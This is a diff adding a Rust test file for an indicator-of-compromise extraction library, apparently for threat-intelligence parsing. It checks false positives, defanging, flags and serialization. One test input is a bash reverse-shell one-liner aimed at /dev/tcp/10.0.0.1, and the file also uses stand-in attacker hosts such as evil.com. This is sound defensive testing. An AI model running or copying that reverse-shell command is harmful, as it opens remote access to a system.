@@ -1,0 +1,517 @@
+//! Hand-written cases: every false-positive class from issue 4, defanging, flags, API shape.
+
+use mitremap_ioc::{Ioc, IocFlags, IocKind, IocSummary, defang, extract, refang, summarize};
+
+fn of(text: &str, kind: IocKind) -> Vec<String> {
+    extract(text)
+        .into_iter()
+        .filter(|i| i.kind == kind)
+        .map(|i| i.value)
+        .collect()
+}
+
+fn kinds(text: &str) -> Vec<(IocKind, String)> {
+    extract(text)
+        .into_iter()
+        .map(|i| (i.kind, i.value))
+        .collect()
+}
+
+fn check_ranges(text: &str) {
+    for i in extract(text) {
+        assert_eq!(&text[i.range.clone()], i.raw, "{i:?}");
+    }
+}
+
+// ----- file names are not domains -----------------------------------------------------------
+
+#[test]
+fn file_names_with_tld_like_extensions_are_files() {
+    for f in [
+        "rundll32.exe",
+        "payload.zip",
+        "script.py",
+        "install.sh",
+        "Calculator.app",
+        "libfoo.so",
+        "update.cab",
+        "clip.mov",
+        "notes.one",
+        "README.md",
+        "tool.pl",
+        "main.rs",
+    ] {
+        let text = format!("The actor dropped {f} on the host.");
+        assert!(
+            of(&text, IocKind::Domain).is_empty(),
+            "{f} reported as a domain: {:?}",
+            kinds(&text)
+        );
+        assert_eq!(of(&text, IocKind::FileName), vec![f.to_string()], "{f}");
+    }
+}
+
+#[test]
+fn defanged_ambiguous_tld_is_a_domain() {
+    assert_eq!(
+        of("C2 at payload[.]zip today", IocKind::Domain),
+        vec!["payload.zip"]
+    );
+    assert!(of("C2 at payload[.]zip today", IocKind::FileName).is_empty());
+    // and in a URL host it is a domain too
+    assert_eq!(
+        of("get http://evil.zip/a", IocKind::Domain),
+        vec!["evil.zip"]
+    );
+}
+
+#[test]
+fn product_names_are_not_files() {
+    assert!(of("built with Node.js and Vue.js", IocKind::FileName).is_empty());
+}
+
+#[test]
+fn glue_words_are_not_files_or_domains() {
+    let t = "such as.mp3,.accdb, and.pub files; use of.hta files; as well as.txt";
+    assert!(of(t, IocKind::FileName).is_empty(), "{:?}", kinds(t));
+    assert!(of(t, IocKind::Domain).is_empty(), "{:?}", kinds(t));
+}
+
+// ----- versions are not IPs -----------------------------------------------------------------
+
+#[test]
+fn version_numbers_are_not_ips() {
+    for t in [
+        "Update to version 1.2.3.4 now",
+        "Windows 10.0.19041 build",
+        "User-Agent: Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; WOW64) WinHttp/1.6.3.8",
+        "v1.2.3.4 released",
+        "ver 2.0.0.1",
+        "section 1.2.3.4 of the report",
+        "release 10.1.2.3",
+        "1.2.3.4.5 is a long version",
+        "mon.sys version 3.0.0.4",
+    ] {
+        assert!(of(t, IocKind::Ipv4).is_empty(), "{t:?} -> {:?}", kinds(t));
+    }
+}
+
+#[test]
+fn real_ips_still_found() {
+    assert_eq!(
+        of("C2 at 185.117.72.190.", IocKind::Ipv4),
+        vec!["185.117.72.190"]
+    );
+    assert_eq!(
+        of("https://x.com/ip-address/90.156.201.27/info", IocKind::Ipv4),
+        vec!["90.156.201.27"]
+    );
+    assert_eq!(
+        of("bash -i >& /dev/tcp/10.0.0.1/8080", IocKind::Ipv4),
+        vec!["10.0.0.1"]
+    );
+    assert_eq!(
+        of("net 10.1.0.0/16 used", IocKind::Ipv4Cidr),
+        vec!["10.1.0.0/16"]
+    );
+    assert_eq!(of("1.1.1.2:80", IocKind::Ipv4), vec!["1.1.1.2"]);
+    assert!(of("900.1.4.1", IocKind::Ipv4).is_empty());
+}
+
+// ----- hashes inside longer hex runs --------------------------------------------------------
+
+#[test]
+fn hashes_inside_longer_hex_are_not_hashes() {
+    let md5 = "d41d8cd98f00b204e9800998ecf8427e";
+    assert_eq!(of(&format!("hash {md5}."), IocKind::Md5), vec![md5]);
+    assert!(of(&format!("hex {md5}0"), IocKind::Md5).is_empty());
+    assert!(of(&format!("{md5}{md5}ab"), IocKind::Md5).is_empty());
+    assert!(of(&format!("{md5}{md5}ab"), IocKind::Sha256).is_empty());
+    let sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
+    assert_eq!(of(sha256, IocKind::Sha256), vec![sha256]);
+    assert!(of(sha256, IocKind::Md5).is_empty());
+    // 32 decimal digits is a number, not an MD5
+    assert!(of("12345678901234567890123456789012", IocKind::Md5).is_empty());
+}
+
+// ----- URL boundaries -----------------------------------------------------------------------
+
+#[test]
+fn trailing_punctuation_is_not_part_of_urls() {
+    for (t, want) in [
+        ("See https://evil.com/a.php.", "https://evil.com/a.php"),
+        ("(https://evil.com/a)", "https://evil.com/a"),
+        ("\"https://evil.com/a\",", "https://evil.com/a"),
+        ("'https://evil.com/a';", "https://evil.com/a"),
+        ("[link](https://evil.com/a?b=1)!", "https://evil.com/a?b=1"),
+        ("<https://evil.com/x>", "https://evil.com/x"),
+        (
+            "https://en.wikipedia.org/wiki/Foo_(bar) end",
+            "https://en.wikipedia.org/wiki/Foo_(bar)",
+        ),
+        ("visit https://evil.com/a:", "https://evil.com/a"),
+    ] {
+        assert_eq!(of(t, IocKind::Url), vec![want.to_string()], "{t:?}");
+        check_ranges(t);
+    }
+}
+
+#[test]
+fn any_scheme() {
+    assert_eq!(
+        of(
+            "smb://10.0.0.5/share and ldap://dc.corp.local/x",
+            IocKind::Url
+        )
+        .len(),
+        2
+    );
+}
+
+// ----- prose joined by dots -----------------------------------------------------------------
+
+#[test]
+fn prose_and_code_joined_by_dots_are_not_domains() {
+    for t in [
+        "used by threat actors.Cisco reported",
+        "createobject(\"ADODB.Stream\")",
+        "built on the .NET framework",
+        "an ASP.NET web shell",
+        "System.Net.WebClient downloads",
+        "set o = createobject(\"wscript.shell\")",
+        "m = re.search(\"x\", fd)",
+        "data = r.group(0)",
+        "the malware.in 2019",
+        "com.apple.dock settings",
+        "saved to AppData\\Fasta.ski via BITS",
+    ] {
+        assert!(of(t, IocKind::Domain).is_empty(), "{t:?} -> {:?}", kinds(t));
+    }
+}
+
+#[test]
+fn real_domains_found() {
+    assert_eq!(
+        of(
+            "beacons to update.deepsoftupdate.com daily",
+            IocKind::Domain
+        ),
+        vec!["update.deepsoftupdate.com"]
+    );
+    assert_eq!(
+        of("Google.com at the start", IocKind::Domain),
+        vec!["google.com"]
+    );
+    assert_eq!(
+        of("the onion igvmwp3544wpnd6u.onion", IocKind::Domain),
+        vec!["igvmwp3544wpnd6u.onion"]
+    );
+    assert_eq!(of("telegram t.me/foo", IocKind::Domain), vec!["t.me"]);
+    assert!(of("example.nottld", IocKind::Domain).is_empty());
+}
+
+// ----- defanging ------------------------------------------------------------------------------
+
+#[test]
+fn defanged_forms() {
+    let cases: &[(&str, IocKind, &str)] = &[
+        ("hxxp://evil[.]com/a", IocKind::Url, "http://evil.com/a"),
+        ("hXXps://evil(.)com/a", IocKind::Url, "https://evil.com/a"),
+        ("evil{.}com", IocKind::Domain, "evil.com"),
+        ("evil[dot]com", IocKind::Domain, "evil.com"),
+        ("evil(dot)com", IocKind::Domain, "evil.com"),
+        ("http[:]//evil.com/x", IocKind::Url, "http://evil.com/x"),
+        ("hxxps[://]evil[.]com/x", IocKind::Url, "https://evil.com/x"),
+        ("bob[@]evil.com", IocKind::Email, "bob@evil.com"),
+        ("bob[at]evil.com", IocKind::Email, "bob@evil.com"),
+        ("bob AT evil.com", IocKind::Email, "bob@evil.com"),
+        ("john at evil dot com", IocKind::Email, "john@evil.com"),
+        ("evil dot com", IocKind::Domain, "evil.com"),
+        ("evil\\.com", IocKind::Domain, "evil.com"),
+        ("evil . com", IocKind::Domain, "evil.com"),
+        ("1[.]2[.]3[.]4", IocKind::Ipv4, "1.2.3.4"),
+        (
+            "evil[.]com/path/x.php",
+            IocKind::Url,
+            "http://evil.com/path/x.php",
+        ),
+    ];
+    for (t, k, want) in cases {
+        let hits: Vec<Ioc> = extract(t).into_iter().filter(|i| i.kind == *k).collect();
+        assert_eq!(hits.len(), 1, "{t:?} -> {:?}", kinds(t));
+        assert_eq!(hits[0].value, *want, "{t:?}");
+        assert!(hits[0].defanged, "{t:?}");
+        assert_eq!(&t[hits[0].range.clone()], hits[0].raw);
+    }
+}
+
+#[test]
+fn refanging_does_not_invent_iocs_from_prose() {
+    for t in [
+        "Let's meet at noon at the office.",
+        "The red dot in the corner.",
+        "The dot com bubble burst.",
+        "Look (at) this.",
+        "He arrived at example of the attack.",
+        "found at google.com",
+        "beacons to C2 at evil[.]com",
+    ] {
+        assert!(of(t, IocKind::Email).is_empty(), "{t:?} -> {:?}", kinds(t));
+        if !t.contains(".com") {
+            assert!(of(t, IocKind::Domain).is_empty(), "{t:?} -> {:?}", kinds(t));
+        }
+    }
+    assert_eq!(refang("Let's meet at noon."), "Let's meet at noon.");
+    assert_eq!(refang("The dot com bubble"), "The dot com bubble");
+}
+
+#[test]
+fn refang_and_defang_round_trip() {
+    assert_eq!(refang("hxxps://evil[.]com"), "https://evil.com");
+    assert_eq!(refang(&refang("hxxps://evil[.]com")), "https://evil.com");
+    assert_eq!(
+        defang("https://evil.com/a.php", IocKind::Url),
+        "hxxps://evil[.]com/a.php"
+    );
+    assert_eq!(defang("evil.com", IocKind::Domain), "evil[.]com");
+    assert_eq!(defang("bob@evil.com", IocKind::Email), "bob[@]evil[.]com");
+    assert_eq!(defang("1.2.3.4", IocKind::Ipv4), "1[.]2[.]3[.]4");
+    for (v, k) in [
+        ("https://evil.com/a.php", IocKind::Url),
+        ("evil.com", IocKind::Domain),
+        ("bob@evil.com", IocKind::Email),
+        ("1.2.3.4", IocKind::Ipv4),
+    ] {
+        assert_eq!(refang(&defang(v, k)), v);
+    }
+}
+
+// ----- the other kinds ------------------------------------------------------------------------
+
+#[test]
+fn all_other_kinds() {
+    let t = "CVE-2021-44228 T1059.001 TA0002 G0016 S0154 M1036 C0015 DS0009 AS13335 ASN 15169 \
+             00:1A:2B:3C:4D:5E 00-b0-d0-63-c2-26 2001:db8::1 fe80::1 ::ffff:192.0.2.128 \
+             3Cwgr2g7vsi1bXDUkpEnVoRLA9w4FZfC69 bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq \
+             96:s4Ud1Lj96tHHlZDrwciQmA+4uy1I0G4HYuL8N3TzS8QsO/wqWXLcMSx:sF1LjEtHHlZDrwciQmA+4uy1I0G4HYuL8N3TzS8QsO/wqWXLcMSx \
+             HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run C:\\Windows\\System32\\cmd.exe \
+             /etc/passwd ./run.sh rule APT_Foo_Bar : tag1 tag2 {";
+    let got = kinds(t);
+    let has = |k: IocKind, v: &str| got.iter().any(|(gk, gv)| *gk == k && gv == v);
+    assert!(has(IocKind::Cve, "CVE-2021-44228"), "{got:?}");
+    for id in [
+        "T1059.001",
+        "TA0002",
+        "G0016",
+        "S0154",
+        "M1036",
+        "C0015",
+        "DS0009",
+    ] {
+        assert!(has(IocKind::AttackId, id), "{id} {got:?}");
+    }
+    assert!(
+        has(IocKind::Asn, "AS13335") && has(IocKind::Asn, "AS15169"),
+        "{got:?}"
+    );
+    assert!(
+        has(IocKind::Mac, "00:1a:2b:3c:4d:5e") && has(IocKind::Mac, "00:b0:d0:63:c2:26"),
+        "{got:?}"
+    );
+    assert!(
+        has(IocKind::Ipv6, "2001:db8::1")
+            && has(IocKind::Ipv6, "fe80::1")
+            && has(IocKind::Ipv6, "::ffff:192.0.2.128"),
+        "{got:?}"
+    );
+    assert!(
+        !got.iter()
+            .any(|(k, v)| *k == IocKind::Ipv4 && v == "192.0.2.128"),
+        "IPv4 inside IPv6: {got:?}"
+    );
+    assert!(
+        has(IocKind::BtcAddress, "3Cwgr2g7vsi1bXDUkpEnVoRLA9w4FZfC69"),
+        "{got:?}"
+    );
+    assert!(
+        has(
+            IocKind::BtcAddress,
+            "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"
+        ),
+        "{got:?}"
+    );
+    assert!(got.iter().any(|(k, _)| *k == IocKind::Ssdeep), "{got:?}");
+    assert!(
+        has(
+            IocKind::RegistryKey,
+            "HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
+        ),
+        "{got:?}"
+    );
+    assert!(
+        has(IocKind::WindowsPath, "C:\\Windows\\System32\\cmd.exe"),
+        "{got:?}"
+    );
+    assert!(has(IocKind::FileName, "cmd.exe"), "{got:?}");
+    assert!(
+        has(IocKind::UnixPath, "/etc/passwd") && has(IocKind::UnixPath, "./run.sh"),
+        "{got:?}"
+    );
+    assert!(has(IocKind::YaraRule, "APT_Foo_Bar"), "{got:?}");
+    check_ranges(t);
+}
+
+#[test]
+fn registry_hive_spellings() {
+    for h in [
+        "HKLM",
+        "HKEY_LOCAL_MACHINE",
+        "HKCU",
+        "HKEY_CURRENT_USER",
+        "HKCR",
+        "HKEY_CLASSES_ROOT",
+        "HKU",
+        "HKEY_USERS",
+        "HKCC",
+        "HKEY_CURRENT_CONFIG",
+        "hklm",
+        "HKLM:",
+    ] {
+        let t = format!("set {h}\\Software\\Foo value");
+        assert_eq!(
+            of(&t, IocKind::RegistryKey).len(),
+            1,
+            "{t:?} {:?}",
+            kinds(&t)
+        );
+    }
+    assert!(of("HKP\\SYSTEM", IocKind::RegistryKey).is_empty());
+    assert_eq!(
+        of(
+            "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon key",
+            IocKind::RegistryKey
+        ),
+        vec!["HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon"]
+    );
+}
+
+#[test]
+fn windows_paths_with_spaces() {
+    assert_eq!(
+        of(
+            "ran C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe today",
+            IocKind::WindowsPath
+        ),
+        vec!["C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe"]
+    );
+    assert_eq!(
+        of(
+            "ran C:\\Windows\\a.exe HKLM\\Software\\X",
+            IocKind::WindowsPath
+        ),
+        vec!["C:\\Windows\\a.exe"]
+    );
+}
+
+#[test]
+fn invalid_btc_and_asn_rejected() {
+    assert!(of("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb", IocKind::BtcAddress).is_empty());
+    assert!(of("JBoss AS 3/4/5/6", IocKind::Asn).is_empty());
+    assert!(of("ASN4294967295", IocKind::Asn).is_empty());
+    assert!(of("as 15169 parts", IocKind::Asn).is_empty());
+}
+
+#[test]
+fn cve_and_attack_bounds() {
+    assert!(of("CVE-19999-0000 CVE-2022-000012", IocKind::Cve).is_empty());
+    assert!(of("P1174 T019109", IocKind::AttackId).is_empty());
+    assert_eq!(of("cve-2021-1234", IocKind::Cve), vec!["CVE-2021-1234"]);
+}
+
+#[test]
+fn yara_needs_a_rule_header() {
+    assert!(of("as a rule, this is { not yara", IocKind::YaraRule).is_empty());
+    assert_eq!(of("rule Foo_Bar {", IocKind::YaraRule), vec!["Foo_Bar"]);
+    assert_eq!(
+        of("private rule Foo : tag {", IocKind::YaraRule),
+        vec!["Foo"]
+    );
+}
+
+// ----- flags, summaries, serde ----------------------------------------------------------------
+
+#[test]
+fn noise_is_flagged_not_dropped() {
+    let hits = extract(
+        "10.0.0.1 192.168.1.1 127.0.0.1 8.8.8.8 microsoft.com evil-c2.com user@gmail.com fd00::1",
+    );
+    let flag = |v: &str| {
+        hits.iter()
+            .find(|i| i.value == v)
+            .map(|i| i.flags)
+            .unwrap_or_else(|| panic!("{v} missing: {hits:?}"))
+    };
+    assert!(flag("10.0.0.1").private && flag("192.168.1.1").private && flag("127.0.0.1").private);
+    assert!(!flag("8.8.8.8").is_noise());
+    assert!(flag("microsoft.com").benign && flag("microsoft.com").is_noise());
+    assert!(!flag("evil-c2.com").is_noise());
+    assert!(flag("user@gmail.com").benign);
+    assert!(flag("fd00::1").private);
+}
+
+#[test]
+fn summaries_dedup_with_counts() {
+    let t = "evil[.]com then evil.com and EVIL.com; 1.2.3.4";
+    let s: Vec<IocSummary> = summarize(&extract(t));
+    let d = s.iter().find(|x| x.kind == IocKind::Domain).unwrap();
+    assert_eq!(d.value, "evil.com");
+    assert_eq!(d.count, 3);
+    assert_eq!(d.first, 0);
+    assert_eq!(d.raws, vec!["evil[.]com", "evil.com", "EVIL.com"]);
+    assert!(
+        s.windows(2)
+            .all(|w| (w[0].kind, w[0].first) <= (w[1].kind, w[1].first))
+    );
+}
+
+#[test]
+fn extract_is_sorted_by_start() {
+    let v = extract("x http://a.com/1.2.3.4 b.com 5.6.7.8 c:\\x\\y.exe");
+    assert!(v.windows(2).all(|w| w[0].range.start <= w[1].range.start));
+}
+
+#[test]
+fn serde_shape() {
+    let hits = extract("hxxp://evil[.]com/x");
+    let j = serde_json::to_value(&hits[0]).unwrap();
+    assert_eq!(j["kind"], "url");
+    assert_eq!(j["range"]["start"], 0);
+    assert_eq!(j["flags"]["private"], false);
+    let back: Ioc = serde_json::from_value(j).unwrap();
+    assert_eq!(back, hits[0]);
+    for k in IocKind::ALL {
+        let s = serde_json::to_string(k).unwrap();
+        assert_eq!(s, format!("\"{}\"", k.as_str()));
+        assert_eq!(IocKind::from_name(k.as_str()), Some(*k));
+        assert!(!k.label().is_empty());
+    }
+    assert_eq!(IocKind::ALL.len(), 21);
+    let f: IocFlags = serde_json::from_str(r#"{"private":true,"benign":false}"#).unwrap();
+    assert!(f.is_noise());
+    let s = summarize(&hits);
+    let _: Vec<IocSummary> = serde_json::from_str(&serde_json::to_string(&s).unwrap()).unwrap();
+}
+
+#[test]
+fn unicode_input_is_safe() {
+    for t in [
+        "访问evil.com下载",
+        "вирус[.]рф and evil[.]com",
+        "é1.2.3.4é",
+        "😀hxxp://x[.]com/😀",
+        "\u{200b}evil.com\u{200b}",
+    ] {
+        check_ranges(t);
+    }
+    assert_eq!(of("访问evil.com下载", IocKind::Domain), vec!["evil.com"]);
+}
